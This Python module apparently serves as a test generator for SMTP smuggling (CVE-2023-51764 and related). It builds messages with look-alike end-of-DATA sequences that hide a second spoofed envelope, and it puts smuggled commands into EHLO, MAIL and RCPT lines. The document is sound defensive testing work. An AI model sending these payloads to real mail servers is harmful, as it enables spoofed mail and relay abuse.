"""Ways to hide a second message in the first: sequences that some server takes for the end of DATA.

`tricks(seed, count)` → `Trick`s, the same for the same seed. Each sends one message from ``mN@``
whose bytes hold commands for another one from ``sN@``; a server that accepts a mail from ``sN@``
has been smuggled past. Families, by turns:

- look-alikes: LEFT ``.`` RIGHT for every pair of line ends and not-quite line ends, in the body;
- near ones: the same of bytes that a gateway must let through, such as VT, NEL and 8-bit dots;
- mixes: random strings of CR, LF, CRLF, NUL, dots and the like;
- places: such a sequence in the header, at the very start, right before the true end, behind
  64 KiB, or a message whose lines all end otherwise (some servers change their mind by the first);
- commands: stray bytes in EHLO, MAIL, RCPT, XFORWARD and DATA.

Invariant: CRLF ``.`` CRLF stands in what follows DATA once, at its end: whatever comes in between
is content by RFC 5321, so every second message is somebody's fault.

Sources: CVE-2023-51764, -51765, -51766, CVE-2024-27305; smtpsmug's list; aiosmtpd's and Postfix'
tests of them (read, not copied).
"""

import itertools
import random
import re
from collections.abc import Iterator
from dataclasses import dataclass

END = b"\r\n.\r\n"
STRAY = re.compile(rb"\r(?!\n)|(?<!\r)\n|\0")
SIDES = (
    *(b"\n", b"\r", b"\r\n", b"\0", b"\r\r", b"\n\n", b"\n\r", b"\r\r\n", b"\r\n\r", b"\n\r\n"),
    *(b"\r\0\n", b"\0\r\n", b"\r\n\0", b"\n\0", b"\0\n", b"\r\0", b"\r\n\n", b"\r\r\r\n"),
    *(b"\x0b", b"\x0c", b"\x1c", b"\x85", b"\xc2\x85", b"\xe2\x80\xa8", b"\xe2\x80\xa9"),
    *(b"\r\n ", b" \r\n", b"\t\r\n", b"\r\n\t", b"\r\n\x08", b"\x1a\r\n", b"\r\n\x00\x08", b""),
)
DOTS = (b".", b"..", b".\0", b"\0.", b". ", b".\t", b"...", b".\xad", b"\xef\xbc\x8e", b".\x7f")
ALPHABET = (
    b"\r",
    b"\n",
    b"\r\n",
    b"\0",
    b".",
    b".",
    b".\r\n",
    b"\n.",
    b" ",
    b"\x0b",
    b"\x85",
    b"x",
)
JUNK = (b"\n", b"\r", b"\0", b"\r\r", b"\n\r", b"\x0b", b"\x85", b"\n.", b"\r.", b" \n", b"\t\r")
FAMILIES = ("lookalike", "mix", "lookalike", "place", "near", "lookalike", "command")
TO = b"<anna@medborgare.example>"


@dataclass(frozen=True, slots=True)
class Trick:
    """`lines` are sent one by one, each with what it ends with; behind DATA comes `wire`, in pieces
    that are cut at `cuts`."""

    n: int
    family: str
    lines: tuple[bytes, ...]
    wire: bytes
    cuts: tuple[int, ...] = ()

    @property
    def stray(self) -> bool:
        """Whether a server that follows P7 must refuse it."""
        return STRAY.search(self.wire) is not None

    def pieces(self) -> list[bytes]:
        edges = (0, *self.cuts, len(self.wire))
        return [self.wire[a:b] for a, b in itertools.pairwise(edges) if a < b]


def sender(letter: str, n: int) -> bytes:
    return b"<%s%d@exempelkommun.example>" % (letter.encode(), n)


def envelope(n: int) -> tuple[bytes, ...]:
    return (b"MAIL FROM:%s\r\n" % sender("m", n), b"RCPT TO:%s\r\n" % TO, b"DATA\r\n")


def second(n: int, end: bytes = b"\r\n") -> bytes:
    """The commands of the other message, and its text; by BDAT where n is even: those servers that
    insist on waiting for 354 do not see a client that talks too early then."""
    text = b"Subject: nummer tva" + end * 2 + b"smugglat" + end
    commands = [b"MAIL FROM:%s" % sender("s", n), b"RCPT TO:%s" % TO]
    if n % 2:
        return end.join([*commands, b"DATA", text])
    return end.join([*commands, b"BDAT %d LAST" % len(text), text])


def message(n: int, sequence: bytes, end: bytes = b"\r\n", header: bytes = b"") -> bytes:
    head = b"Message-ID: <%d@exempelkommun.example>" % n + end + b"Subject: nummer ett" + end
    return head + header + end + b"forst" + sequence + second(n, end)


def _lookalikes(chance: random.Random) -> Iterator[bytes]:
    every = [left + dot + right for left in SIDES for dot in DOTS for right in SIDES]
    while True:
        chance.shuffle(every)
        first = [left + b"." + right for left in SIDES[:18] for right in SIDES[:18]]
        yield from first + every


def _near(chance: random.Random) -> bytes:
    """Nothing stray in it, and no end of DATA."""
    while True:
        parts = (chance.choice(SIDES), chance.choice(DOTS), chance.choice(SIDES))
        sequence = b"".join(parts) + chance.choice((b"", b"", b".", b"\r\n..", b"\r\n.x\r\n"))
        if not STRAY.search(sequence + b"M"):
            return sequence


def _mix(chance: random.Random) -> bytes:
    return b"".join(chance.choices(ALPHABET, k=chance.randint(2, 12)))


def _placed(chance: random.Random, n: int, sequence: bytes) -> bytes:
    match chance.randrange(6):
        case 0:
            return message(n, b"\r\n", header=b"X-Odd: forst" + sequence + second(n))
        case 1:
            return sequence + message(n, sequence)
        case 2:
            return message(n, b"\r\n") + chance.choice((b"\r\n.\r", b"\n.", b".", b"\r", b"\0"))
        case 3:
            fill = b"En rad utan mening.\r\n" * 3121
            return message(n, b"\r\n" + fill + b"x" * chance.randint(0, 40) + sequence)
        case 4:
            return message(n, b"\n.\n", end=b"\n")
        case _:
            end = chance.choice((b"\n", b"\r", b"\r\r\n", b"\n\r"))
            return message(n, end + b"." + end, end=end)


def _odd_lines(chance: random.Random, n: int) -> tuple[bytes, ...]:
    """A command with junk in it, or with another command behind the junk."""
    mail, rcpt, data = envelope(n)
    junk = chance.choice(JUNK)
    hidden = chance.choice((b"", b"RCPT TO:%s" % TO, b"RSET", b"XFORWARD NAME=x"))
    match chance.randrange(6):
        case 0:
            lines = (mail[:-3] + junk + b">" + junk + hidden + b"\r\n", rcpt, data)
        case 1:
            lines = (mail[:-2] + b" ENVID=x" + junk + hidden + b"\r\n", rcpt, data)
        case 2:
            lines = (mail, rcpt[:-2] + b" ORCPT=rfc822;a" + junk + hidden + b"\r\n", data)
        case 3:
            lines = (mail, rcpt[:8] + b"<a" + junk + b"b@medborgare.example>\r\n", rcpt, data)
        case 4:
            lines = (b"XFORWARD NAME=x" + junk + hidden + b"\r\n", mail, rcpt, data)
        case _:
            lines = (b"EHLO x" + junk + hidden + b"\r\n", mail, rcpt, data)
    return lines


def _cuts(chance: random.Random, wire: bytes) -> tuple[int, ...]:
    """Up to three places, most of them where CR, LF or a dot stands."""
    likely = [found.start() for found in re.finditer(rb"[\r\n.\0]", wire)]
    many = chance.choice((0, 0, 1, 2, 3))
    places = {
        chance.choice(likely) if chance.random() < 0.8 else chance.randrange(len(wire))
        for _ in range(many)
    }
    return tuple(sorted(places))


def _ended(wire: bytes) -> bytes:
    """The wire with its true end, and with no other."""
    wire += END
    while (at := wire.find(END)) < len(wire) - len(END):
        wire = wire[:at] + b"\r\n..\r\n" + wire[at + len(END) :]
    return wire


def tricks(seed: int, count: int) -> Iterator[Trick]:
    """So many, no two alike."""
    chance = random.Random(seed)
    lookalikes = _lookalikes(chance)
    for n in range(1, count + 1):
        family, lines = FAMILIES[n % len(FAMILIES)], envelope(n)
        match family:
            case "lookalike":
                wire = message(n, next(lookalikes))
            case "near":
                wire = message(n, _near(chance))
            case "mix":
                wire = message(n, _mix(chance))
            case "place":
                wire = _placed(chance, n, chance.choice((_mix(chance), next(lookalikes))))
            case _:
                lines = _odd_lines(chance, n)
                wire = message(n, chance.choice((b"\r\n..\r\n", next(lookalikes))))
        wire = _ended(wire)
        if wire.startswith(b".\r\n"):  # an end at once
            wire = b"." + wire
        yield Trick(n, family, lines, wire, _cuts(chance, wire))
